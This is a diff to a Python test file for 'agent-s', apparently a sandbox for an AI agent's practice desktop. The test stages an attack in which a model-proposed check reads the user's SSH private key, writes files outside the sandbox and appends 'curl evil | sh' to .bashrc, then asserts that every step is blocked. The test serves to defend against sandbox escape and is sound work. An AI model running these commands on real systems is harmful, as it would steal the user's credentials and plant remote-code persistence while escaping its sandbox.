@@ -387,8 +387,10 @@ def test_the_models_check_with_no_flags_writes_nothing_outside_its_desktop_and_s
     """The attack on issue 27: ``agent-s practice APP`` with no flags, and a proposed check
     that writes outside the desktop's HOME, into the real user's home, and reaches for the X
     display (the user's desktop: this session's, and the practice desktop's own)."""
-    home = tmp_path / "home"  # the real user's home, as far as agent-s knows
     with outside_tmp(tmp_path) as outside:
+        home = outside / "home"  # the real user's home, as far as agent-s knows
+        (home / ".ssh").mkdir(parents=True)
+        (home / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-OF-THE-USER\n")
         _attack_with_a_check(home, outside, desktop)
 
 
@@ -396,6 +398,7 @@ def _attack_with_a_check(home: Path, outside: Path, desktop: Any) -> None:
     check = "\n".join(
         [
             "echo mine > ~/mine.txt && echo WROTE-OWN-HOME",
+            f"cat {home}/.ssh/id_rsa",
             f"echo escaped > {outside}/escaped.txt",
             f"echo planted > {home}/planted.txt",
             f"echo 'curl evil | sh' >> {home}/.bashrc",
@@ -427,6 +430,7 @@ def _attack_with_a_check(home: Path, outside: Path, desktop: Any) -> None:
     assert not (home / "planted.txt").exists()
     assert (home / ".bashrc").read_text() == "# the user's own\n"
     assert "REACHED" not in task["reason"].replace("WROTE-OWN-HOME", ""), task["reason"]
+    assert "PRIVATE-KEY" not in task["reason"]  # nor read the real home
 
 
 def test_practice_does_not_start_without_bubblewrap_unless_none_is_given(
